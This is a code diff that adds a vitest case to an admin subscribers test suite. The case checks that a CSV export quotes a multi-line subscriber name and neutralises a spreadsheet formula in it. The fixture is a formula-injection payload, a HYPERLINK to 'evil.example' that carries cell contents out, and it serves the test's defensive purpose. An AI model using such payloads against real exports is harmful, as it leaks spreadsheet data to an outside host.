@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import type { TRPCError } from '@trpc/server';
+import { parse } from 'csv-parse/sync';
 import { useTestApp } from '../../../server/testing/test-app.ts';
 import { signIn } from '../../../server/testing/auth.ts';
 import type { SessionUser } from '../../../lib/server/trpc.ts';
@@ -50,5 +51,17 @@ describe('admin.subscribers', () => {
     expect((await as().admin.subscribers.list({})).total).toBe(2);
     const again = await as().admin.subscribers.remove({ id: first!.id }).catch((e: unknown) => e);
     expect((again as TRPCError).code).toBe('NOT_FOUND');
+  });
+
+  it('quotes a name with a line break and neutralises a formula on each of its lines', async () => {
+    await t.caller(null, '10.1.0.9').subscribers.subscribe({ email: 'dana@example.com', name: 'Dana\n=HYPERLINK("https://evil.example/?"&A2)' });
+    const { cookie } = await signIn(t.orm, { isAdmin: true });
+    const res = await t.app.inject({ method: 'GET', url: '/api/admin/subscribers.csv', headers: { cookie } });
+    const rows = parse(res.body, { bom: true }) as string[][];
+    expect(rows[0]).toEqual(['email', 'name', 'status', 'subscribed']);
+    const dana = rows.find((r) => r[0] === 'dana@example.com');
+    expect(dana?.[1]).toBe('Dana\n\'=HYPERLINK("https://evil.example/?"&A2)');
+    expect(rows.every((r) => r.length === 4)).toBe(true);
+    expect(rows.flat().flatMap((c) => c.split(/\r\n|\r|\n/)).filter((l) => /^[=+\-@\t]/.test(l))).toEqual([]);
   });
 });
